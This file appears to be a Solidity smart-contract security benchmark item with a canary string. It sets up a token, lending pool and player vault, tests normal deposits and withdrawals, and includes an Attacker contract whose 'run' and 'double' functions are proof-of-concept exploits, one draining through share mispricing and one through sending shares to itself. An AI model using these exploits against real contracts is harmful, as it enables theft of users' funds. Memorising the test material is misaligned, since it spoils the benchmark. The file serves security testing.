// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./PlayerVault.sol";

// assay-canary-bdd3b18f-4029-461f-93ff-4bbcf004c515

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract GameCoin is ERC20 {
    constructor() ERC20("Game coin", "GAME") {
        _mint(msg.sender, 100_000e18);
    }
}

// Lends coins; interest raises what a share is worth.
contract LendingPool {
    IERC20 public immutable coin;
    uint256 public total;
    mapping(address => uint256) public sharesOf;

    constructor(IERC20 c) {
        coin = c;
    }

    function join(uint256 amount) external returns (uint256 made) {
        made = total == 0 ? amount : amount * total / coin.balanceOf(address(this));
        require(coin.transferFrom(msg.sender, address(this), amount), "coins");
        sharesOf[msg.sender] += made;
        total += made;
    }

    function exit(uint256 burnt, address to) external returns (uint256 sent) {
        require(sharesOf[msg.sender] >= burnt && burnt > 0, "shares");
        sent = burnt * coin.balanceOf(address(this)) / total;
        sharesOf[msg.sender] -= burnt;
        total -= burnt;
        require(coin.transfer(to, sent), "coins");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    GameCoin private token;
    PlayerVault private vault;
    PlayerVault private fresh;
    Attacker private mallory;

    function setUp() public {
        token = new GameCoin();
        LendingPool pool = new LendingPool(token);
        vault = new PlayerVault(address(pool));
        fresh = new PlayerVault(address(new LendingPool(token)));
        deposit(vault, ANA, 4_000e18);
        deposit(vault, BEN, 4_000e18);
        token.transfer(address(pool), 2_000e18); // interest
        mallory = new Attacker(vault);
        token.transfer(address(mallory), 1_000e18);
    }

    function deposit(PlayerVault at, address player, uint256 amount) private {
        token.transfer(player, amount);
        vm.startPrank(player);
        token.approve(address(at), amount);
        at.deposit(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        deposit(fresh, ANA, 100e18);
        deposit(fresh, BEN, 50e18);
        require(fresh.shares(ANA) == 100e18 && fresh.total() == 150e18, "deposited");
        vm.startPrank(ANA);
        fresh.send(BEN, 40e18);
        fresh.send(ANA, 10e18);
        fresh.withdraw(60e18);
        vm.stopPrank();
        require(token.balanceOf(ANA) == 60e18 && fresh.shares(BEN) == 90e18, "withdrawn");
        vm.startPrank(BEN);
        fresh.withdraw(90e18);
        require(token.balanceOf(BEN) == 90e18 && fresh.total() == 0, "all of it");
        vault.withdraw(2_000e18);
        vault.send(ANA, 2_000e18);
        vm.stopPrank();
        require(token.balanceOf(BEN) == 2_590e18 && vault.total() == 6_000e18, "with interest");
        vault.setShut(true);
        require(vault.shut(), "shut");
        vm.prank(ANA);
        vault.withdraw(6_000e18);
        require(token.balanceOf(ANA) == 7_560e18 && vault.total() == 0, "with interest, too");
        fresh.setShut(true);
        fresh.setShut(false);
        vault.transferOwnership(ANA);
        vm.prank(ANA);
        vault.renounceOwnership();
        fresh.transferOwnership(ANA);
        vm.prank(ANA);
        fresh.renounceOwnership();
    }

    function test_RefusesOpening() public {
        vm.expectRevert("!pool");
        new PlayerVault(address(0));
    }

    function test_RefusesPlayers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!amount");
        vault.deposit(0);
        vm.expectRevert("ERC20: transfer amount exceeds balance");
        vault.deposit(1);
        vm.expectRevert("!shares");
        vault.withdraw(4_000e18 + 1);
        vm.expectRevert("!shares");
        vault.send(BEN, 4_000e18 + 1);
        vm.expectRevert("!to");
        vault.send(address(0), 1);
        vm.expectRevert("Ownable: caller is not the owner");
        vault.setShut(true);
        vm.stopPrank();
        vault.setShut(true);
        vm.prank(ANA);
        vm.expectRevert("!open");
        vault.deposit(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_200e18, "nothing gained");
    }

    function exploit2() public {
        mallory.double();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 1_800e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    PlayerVault private vault;

    constructor(PlayerVault v) {
        vault = v;
    }

    function double() external {
        IERC20 token = vault.coin();
        token.approve(address(vault), 1_000e18);
        vault.deposit(1_000e18);
        vault.send(address(this), vault.shares(address(this)));
        vault.withdraw(vault.shares(address(this)));
    }

    function run() external {
        IERC20 token = vault.coin();
        token.approve(address(vault), 1_000e18);
        vault.deposit(1_000e18);
        vault.withdraw(vault.shares(address(this)));
    }
}
